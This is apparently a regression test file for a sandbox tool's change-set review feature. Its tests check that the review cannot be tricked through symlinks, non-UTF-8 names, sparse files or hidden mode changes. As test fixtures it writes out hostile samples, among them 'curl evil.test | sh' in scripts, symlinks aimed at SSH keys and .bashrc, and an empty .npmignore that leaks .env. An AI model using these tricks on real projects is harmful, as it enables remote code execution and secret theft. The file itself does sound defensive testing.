'use strict'
// Found by an attacker's review of review mode's change-set viewing: `readChange`/`diffChange`
// (and the CLI's `review diff`) read through a symlink the run added, handing the host's files,
// denied to the run, to whoever reads the set; and a name that is not UTF-8 was listed by a lossy
// path that named another entry (or none), so the review showed other content than apply lands.
// Only what the set lists is read now, without following a symlink, each change named by a key
// that is its own.

const { describe, test } = require('node:test')
const assert = require('node:assert/strict')
const fs = require('node:fs')
const path = require('node:path')
const { spawnSync } = require('node:child_process')
const { changeSetStore, sandspawn, tempTree, show } = require('./helpers')

const { spawnSandboxed, applyChangeSet, discardChangeSet, readChange, diffChange } = sandspawn
const STORE = changeSetStore('sandspawn-review-read-')
const REVIEW = { mode: 'workspace-write', workspace: 'review' }
const CLI = path.join(__dirname, '..', '..', 'bin', 'sandspawn.js')
const cli = (args, cwd) => spawnSync(process.execPath, [CLI, ...args], { cwd, encoding: 'utf8', timeout: 60_000, killSignal: 'SIGKILL', stdio: ['ignore', 'pipe', 'pipe'] })

async function review(script, ws, extra = {}) {
  const r = await spawnSandboxed(['bash', '-c', script], { cwd: ws, timeout: 30000, sandbox: { ...REVIEW, ...extra } })
  assert.equal(r.exitCode, 0, show(r))
  assert.ok(r.changeSet, show(r))
  return r
}

/** `ws/NAME` with NAME given as bytes (a `Buffer` path: how Node names a file that is not UTF-8). */
const rawPath = (ws, name) => Buffer.concat([Buffer.from(ws + '/'), name])

describe('readChange and diffChange read only what the set lists, never through a symlink', () => {
  test('a symlink the run added to a denied directory does not read it out (API and CLI)', async (t) => {
    const { ws, out } = tempTree(t)
    const secret = path.join(out, 'secret')
    fs.mkdirSync(secret)
    fs.writeFileSync(path.join(secret, 'id_rsa'), 'TOP-SECRET-KEY\n')
    const r = await review(`cat ${secret}/id_rsa; ln -s ${secret} l; true`, ws, { denyRead: [secret] })
    assert.doesNotMatch(r.stdout, /TOP-SECRET/, 'the run itself cannot read it')
    assert.deepEqual(r.changeSet.changes.map((c) => [c.path, c.kind, c.type, c.target]), [[path.join(ws, 'l'), 'added', 'symlink', secret]])
    const id = r.changeSet.id
    await assert.rejects(readChange(id, path.join(ws, 'l/id_rsa')), { code: 'ERR_SANDBOX_INVALID_OPTIONS', message: /not a change of the change set/ })
    await assert.rejects(diffChange(id, path.join(ws, 'l/id_rsa')), { code: 'ERR_SANDBOX_INVALID_OPTIONS', message: /not a change of the change set/ })
    assert.deepEqual(await readChange(id, path.join(ws, 'l')), Buffer.from(secret), 'the link itself: its target')
    assert.match(await diffChange(id, path.join(ws, 'l')), new RegExp(`\\+${secret}`))
    const shown = cli(['review', 'diff', id, path.join(ws, 'l/id_rsa')], ws)
    assert.doesNotMatch(shown.stdout + shown.stderr, /TOP-SECRET/, `${shown.stdout}${shown.stderr}`)
    assert.notEqual(shown.status, 0)
    await discardChangeSet(id)
  })

  test('a path the set does not list is refused; one below a directory it deletes reads as deleted', async (t) => {
    const { ws } = tempTree(t)
    fs.writeFileSync(path.join(ws, 'unchanged.txt'), 'host\n')
    fs.mkdirSync(path.join(ws, 'gone'))
    fs.writeFileSync(path.join(ws, 'gone/f'), 'g\n')
    const r = await review('rm -rf gone; echo new > new.txt; cat unchanged.txt >/dev/null; touch unchanged.txt', ws)
    const id = r.changeSet.id
    await assert.rejects(readChange(id, path.join(ws, 'unchanged.txt')), { code: 'ERR_SANDBOX_INVALID_OPTIONS', message: /not a change of the change set/ })
    await assert.rejects(diffChange(id, path.join(ws, 'missing.txt')), { code: 'ERR_SANDBOX_INVALID_OPTIONS', message: /not a change of the change set/ })
    assert.equal(await readChange(id, path.join(ws, 'gone')), null)
    assert.equal(await readChange(id, path.join(ws, 'gone/f')), null, 'below a deleted directory: deleted')
    assert.match(await diffChange(id, path.join(ws, 'gone/f')), /^-g$/m)
    assert.deepEqual(await readChange(id, path.join(ws, 'new.txt')), Buffer.from('new\n'))
    await discardChangeSet(id)
  })

  test("the host's side of a diff is not read through a symlink the set replaces", async (t) => {
    const { ws, out } = tempTree(t)
    fs.writeFileSync(path.join(out, 'x'), 'HOST-SECRET\n')
    fs.symlinkSync(out, path.join(ws, 'hl'))
    const r = await review('rm hl && mkdir hl && echo new > hl/x', ws)
    const diff = await diffChange(r.changeSet.id, path.join(ws, 'hl/x'))
    assert.doesNotMatch(diff, /HOST-SECRET/)
    assert.match(diff, /^--- \/dev\/null$/m)
    await discardChangeSet(r.changeSet.id)
  })
})

describe('a name that is not UTF-8 is listed, read and applied as itself', () => {
  const SCRIPT = `printf 'import benign\\n' > "hook$(printf '\\357\\277\\275').pth"
printf 'import evil\\n' > "hook$(printf '\\377').pth"
mkdir "d$(printf '\\376')" && printf 'evil payload\\n' > "d$(printf '\\376')/run.sh"`

  test('each change has its own path, and its own content behind it', async (t) => {
    const { ws } = tempTree(t)
    const r = await review(SCRIPT, ws)
    const cs = r.changeSet
    assert.deepEqual(cs.changes.map((c) => c.path).sort(), [path.join(ws, 'd\\xfe'), path.join(ws, 'd\\xfe/run.sh'), path.join(ws, 'hook\\xff.pth'), path.join(ws, 'hook\ufffd.pth')])
    assert.deepEqual(await readChange(cs.id, path.join(ws, 'hook\ufffd.pth')), Buffer.from('import benign\n'))
    assert.deepEqual(await readChange(cs.id, path.join(ws, 'hook\\xff.pth')), Buffer.from('import evil\n'))
    assert.deepEqual(await readChange(cs.id, path.join(ws, 'd\\xfe/run.sh')), Buffer.from('evil payload\n'))
    assert.match(await diffChange(cs.id, path.join(ws, 'd\\xfe/run.sh')), /^\+evil payload$/m)
    assert.match(await diffChange(cs.id, path.join(ws, 'hook\\xff.pth')), /^\+import evil$/m)
    // The path shown is the one apply takes: only that entry lands.
    const one = await applyChangeSet(cs.id, { paths: [path.join(ws, 'hook\\xff.pth')] })
    assert.deepEqual(one, { applied: [path.join(ws, 'hook\\xff.pth')], conflicts: [], heldBack: [], revision: one.revision })
    assert.equal(typeof one.revision, 'string', 'the revision of what is left')
    assert.deepEqual(fs.readdirSync(ws, { encoding: 'buffer' }).map((n) => n.toString('latin1')), ['hook\xff.pth'])
    assert.equal(fs.readFileSync(rawPath(ws, Buffer.from([...Buffer.from('hook'), 0xff, ...Buffer.from('.pth')])), 'utf8'), 'import evil\n')
    await discardChangeSet(cs.id)
  })

  test('a path two entries show alike is refused, naming the ambiguity, never read or applied', async (t) => {
    const { ws } = tempTree(t)
    // One UTF-8 name written as another's escape (`x\xff`, literally), and that other (`x` 0xFF).
    const r = await review(`printf 'literal\\n' > 'x\\xff'; printf 'raw\\n' > "x$(printf '\\377')"`, ws)
    const key = path.join(ws, 'x\\xff')
    assert.deepEqual(r.changeSet.changes.map((c) => c.path), [key, key])
    await assert.rejects(readChange(r.changeSet.id, key), { code: 'ERR_SANDBOX_INVALID_OPTIONS', message: /names 2 entries/ })
    await assert.rejects(diffChange(r.changeSet.id, key), { code: 'ERR_SANDBOX_INVALID_OPTIONS', message: /names 2 entries/ })
    await assert.rejects(applyChangeSet(r.changeSet.id, { paths: [key] }), { code: 'ERR_SANDBOX_INVALID_OPTIONS', message: /names 2 entries/ })
    assert.deepEqual(fs.readdirSync(ws), [], 'nothing landed')
    await discardChangeSet(r.changeSet.id)
  })

  test('the CLI lists, shows and diffs each by its own path', async (t) => {
    const { ws } = tempTree(t)
    const r = await review(SCRIPT, ws)
    const shown = cli(['review', 'show', r.changeSet.id], ws)
    assert.equal(shown.status, 0, shown.stderr)
    assert.match(shown.stdout, /^ {2}A {2}hook\\\\xff\.pth$/m)
    assert.match(shown.stdout, /^ {2}A {2}hook\ufffd\.pth$/m)
    const diff = cli(['review', 'diff', r.changeSet.id], ws)
    assert.equal(diff.status, 0, diff.stderr)
    assert.match(diff.stdout, /^\+import evil$/m)
    assert.match(diff.stdout, /^\+import benign$/m)
    assert.match(diff.stdout, /^\+evil payload$/m)
    await discardChangeSet(r.changeSet.id)
  })
})

// Found by an attacker's review: a run's `truncate -s 5G big.bin` (36 KiB on disk) made
// `readChange` read it all into the host's memory (5.3 GB), and its promise never settled; a
// 100-line README rewritten as 200,000 lines took one `diffChange` 28 s of host CPU.
describe('what readChange and diffChange make is bounded', () => {
  test('a sparse file past the bound is refused, naming its size and the bound, without reading it', async (t) => {
    const { ws } = tempTree(t)
    const size = (64 << 20) + 1
    const r = await review(`truncate -s ${size} big.bin; echo small > small.txt`, ws)
    const started = Date.now()
    await assert.rejects(readChange(r.changeSet.id, path.join(ws, 'big.bin')), (e) => {
      assert.equal(e.code, 'ERR_SANDBOX_UNSUPPORTED', e.message)
      assert.match(e.message, new RegExp(`${size} bytes.*${64 << 20}`))
      return true
    })
    assert.ok(Date.now() - started < 2000, `refused at once: ${Date.now() - started} ms`)
    assert.deepEqual(await readChange(r.changeSet.id, path.join(ws, 'small.txt')), Buffer.from('small\n'))
    await discardChangeSet(r.changeSet.id)
  })

  test('a diff too costly to make minimal stops in time and says so (API and CLI)', async (t) => {
    const { ws } = tempTree(t)
    fs.writeFileSync(path.join(ws, 'README.md'), Array.from({ length: 100 }, (_, i) => `line ${i}\n`).join(''))
    const r = await review('yes b | head -n 200000 > README.md', ws)
    const started = Date.now()
    const diff = await diffChange(r.changeSet.id, path.join(ws, 'README.md'))
    assert.ok(Date.now() - started < 10_000, `bounded: ${Date.now() - started} ms`)
    assert.match(diff.split('\n')[0], /not minimal/)
    assert.equal(diff.split('\n').filter((l) => l === '+b').length, 200000, 'every added line still shown')
    const shown = cli(['review', 'diff', r.changeSet.id, path.join(ws, 'README.md')], ws)
    assert.equal(shown.status, 0, shown.stderr)
    assert.match(shown.stdout.split('\n')[0], /not minimal/)
    await discardChangeSet(r.changeSet.id)
  })
})

// Found by an attacker's review (land27): the diff, what a user reads before applying, showed
// nothing of a change its lines cannot carry, and apply landed it all the same. `chmod +x`,
// `chmod 644` of a 0600 secret, a host symlink replaced by a file holding its target's text (or a
// file by a symlink whose target is its text), `rm -rf src` (a deleted directory, one change) and a
// directory replaced by a file each diffed as '' or as a plain new file; `sandspawn review diff`
// skipped directories altogether. Each is now said in a line above the diff's header.
describe('the diff says what lands that its lines do not show', () => {
  const SCRIPT = `chmod +x plain; chmod 644 .env; rm sl && printf other > sl; rm lnk && ln -s target lnk
rm -rf src; rm -rf cfg && printf 'x\\n' > cfg; printf 'y\\n' > run.sh && chmod 755 run.sh`
  const setup = (ws) => {
    fs.writeFileSync(path.join(ws, 'plain'), 'abc\n')
    fs.writeFileSync(path.join(ws, '.env'), 'SECRET=1\n', { mode: 0o600 })
    fs.chmodSync(path.join(ws, '.env'), 0o600)
    fs.symlinkSync('other', path.join(ws, 'sl'))
    fs.writeFileSync(path.join(ws, 'lnk'), 'target')
    fs.mkdirSync(path.join(ws, 'src'))
    fs.writeFileSync(path.join(ws, 'src/main.c'), 'int main;\n')
    fs.mkdirSync(path.join(ws, 'cfg'))
    fs.writeFileSync(path.join(ws, 'cfg/a'), 'a\n')
  }

  test('diffChange names a mode change, a type change, a deleted or replaced directory, an executable new file', async (t) => {
    const { ws } = tempTree(t)
    setup(ws)
    const r = await review(SCRIPT, ws)
    const id = r.changeSet.id
    const diff = (name) => diffChange(id, path.join(ws, name))
    assert.match(await diff('plain'), /\/plain: mode 0644 on the host, 0755 in the change set$/m)
    assert.match(await diff('.env'), /\/\.env: mode 0600 on the host, 0644 in the change set$/m)
    assert.match(await diff('sl'), /\/sl: a symlink on the host, a regular file in the change set$/m)
    assert.match(await diff('lnk'), /\/lnk: a regular file on the host, a symlink in the change set$/m)
    assert.match(await diff('src'), /\/src: a directory deleted with everything in it$/m)
    assert.match(await diff('cfg'), /\/cfg: a directory on the host, a regular file in the change set \(the directory deleted with everything in it\)$/m)
    assert.match(await diff('run.sh'), /\/run\.sh: new, mode 0755$/m)
    assert.match(await diff('run.sh'), /^\+y$/m, 'the content still follows')
    await discardChangeSet(id)
  })

  test('sandspawn review diff shows them all, directories included', async (t) => {
    const { ws } = tempTree(t)
    setup(ws)
    const r = await review(SCRIPT, ws)
    const shown = cli(['review', 'diff', r.changeSet.id], ws)
    assert.equal(shown.status, 0, shown.stderr)
    for (const line of ['plain: mode 0644 on the host, 0755', '.env: mode 0600 on the host, 0644', 'sl: a symlink on the host', 'lnk: a regular file on the host', 'src: a directory deleted with everything in it']) {
      assert.ok(shown.stdout.includes(line), `${line} missing from:\n${shown.stdout}`)
    }
    await discardChangeSet(r.changeSet.id)
  })
})

// Found by an attacker's review (fix28): what lands where the host has nothing was said only for an
// executable file. A new symlink diffed as a plain new file whose one line is its target (`+/home/
// u/.bashrc`, no newline), and apply made the link: the user's next build writing `build.log`
// writes where it leads. A new file or directory others may write (0666, 0777: any local user then
// rewrites what the host runs or reads) diffed as an ordinary one. Each is said above the header
// now, as git's `new file mode 120000` says a link.
describe('the diff says what lands where the host has nothing', () => {
  test('diffChange names a new symlink and a new entry others may write', async (t) => {
    const { root, ws } = tempTree(t)
    const target = path.join(root, 'victim.txt')
    const r = await review(`ln -s ${target} build.log; ln -s ../victim.txt notes.md; printf 'a\\n' > shared.txt && chmod 666 shared.txt; mkdir open && chmod 777 open`, ws)
    const id = r.changeSet.id
    const diff = (name) => diffChange(id, path.join(ws, name))
    assert.match(await diff('build.log'), new RegExp(`/build\\.log: new, a symlink to ${target.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}$`, 'm'))
    assert.match(await diff('notes.md'), /\/notes\.md: new, a symlink to \.\.\/victim\.txt$/m)
    assert.match(await diff('shared.txt'), /\/shared\.txt: new, mode 0666$/m)
    assert.match(await diff('open'), /\/open: new, a directory of mode 0777$/m)
    await discardChangeSet(id)
  })
})

// Found by an attacker's review (fix28): a host symlink whose target the set changes diffed as a
// one-line file's change (`-config.dev.json`, `+/home/u/.ssh/authorized_keys`), nothing saying
// that the lines are a link's target, where what the host writes through it then lands.
test('diffChange says a changed symlink is one', async (t) => {
  const { root, ws } = tempTree(t)
  fs.symlinkSync('config.dev.json', path.join(ws, 'config'))
  const r = await review(`ln -sfn ${path.join(root, 'victim.txt')} config`, ws)
  const d = await diffChange(r.changeSet.id, path.join(ws, 'config'))
  assert.match(d, /\/config: a symlink on the host and in the change set \(its lines are its target, not a file's content\)$/m, d)
  await discardChangeSet(r.changeSet.id)
})

// Found by an attacker's review (mode28): a new empty file diffed as '' (no header, no line), in
// diffChange and in `sandspawn review diff`, and apply landed it: an empty `.npmignore` makes npm
// ignore `.gitignore`, so the next `npm publish` ships the `.env` it kept out.
test('the diff says a new empty file is there', async (t) => {
  const { ws } = tempTree(t)
  fs.writeFileSync(path.join(ws, '.gitignore'), '.env\n')
  const r = await review(': > .npmignore', ws)
  const id = r.changeSet.id
  assert.match(await diffChange(id, path.join(ws, '.npmignore')), /\/\.npmignore: new, empty$/m)
  const shown = cli(['review', 'diff', id], ws)
  assert.equal(shown.status, 0, shown.stderr)
  assert.ok(shown.stdout.includes('.npmignore: new, empty'), shown.stdout)
  await discardChangeSet(id)
})

// Found by an attacker's review (mode28): `sandspawn review diff ID PATH` diffed PATH alone, while
// `review apply ID PATH` lands everything at or below it. A directory the set adds diffed as
// nothing at all (exit 0), one it only adds to was refused as no change, and the line after the
// diff ("sandspawn review apply ID --revision R") named no path, so following it landed the whole
// set: files nobody was shown.
describe('sandspawn review diff PATH shows what review apply PATH lands', () => {
  const EVIL = 'curl evil.test | sh'
  const SCRIPT = `mkdir newdir && echo '${EVIL} # new' > newdir/x.sh; echo '${EVIL} # src' > src/evil.sh; echo changed > README`
  const setup = (ws) => {
    fs.mkdirSync(path.join(ws, 'src'))
    fs.writeFileSync(path.join(ws, 'src/a.js'), 'a\n')
    fs.writeFileSync(path.join(ws, 'README'), 'readme\n')
  }

  test('a directory the set adds or adds to is diffed with everything below it', async (t) => {
    const { ws } = tempTree(t)
    setup(ws)
    const r = await review(SCRIPT, ws)
    const added = cli(['review', 'diff', r.changeSet.id, 'newdir'], ws)
    assert.equal(added.status, 0, added.stderr)
    assert.ok(added.stdout.includes(`+${EVIL} # new`), `newdir/x.sh missing from:\n${added.stdout}`)
    const into = cli(['review', 'diff', r.changeSet.id, 'src'], ws)
    assert.equal(into.status, 0, into.stderr)
    assert.ok(into.stdout.includes(`+${EVIL} # src`), `src/evil.sh missing from:\n${into.stdout}`)
    assert.ok(!into.stdout.includes('# new') && !into.stdout.includes('+changed'), `only what is below src:\n${into.stdout}`)
    await discardChangeSet(r.changeSet.id)
  })

  test('the apply it suggests lands only what was diffed', async (t) => {
    const { ws } = tempTree(t)
    setup(ws)
    const r = await review(SCRIPT, ws)
    const shown = cli(['review', 'diff', r.changeSet.id, 'newdir'], ws)
    assert.equal(shown.status, 0, shown.stderr)
    const hint = /sandspawn (review apply .*)$/m.exec(shown.stderr)
    assert.ok(hint, shown.stderr)
    const applied = cli(hint[1].split(' '), ws)
    assert.equal(applied.status, 0, applied.stderr)
    assert.equal(fs.readFileSync(path.join(ws, 'newdir/x.sh'), 'utf8'), `${EVIL} # new\n`)
    assert.equal(fs.readFileSync(path.join(ws, 'README'), 'utf8'), 'readme\n', 'README was not diffed')
    assert.ok(!fs.existsSync(path.join(ws, 'src/evil.sh')), 'src/evil.sh was not diffed')
    await discardChangeSet(r.changeSet.id)
  })
})
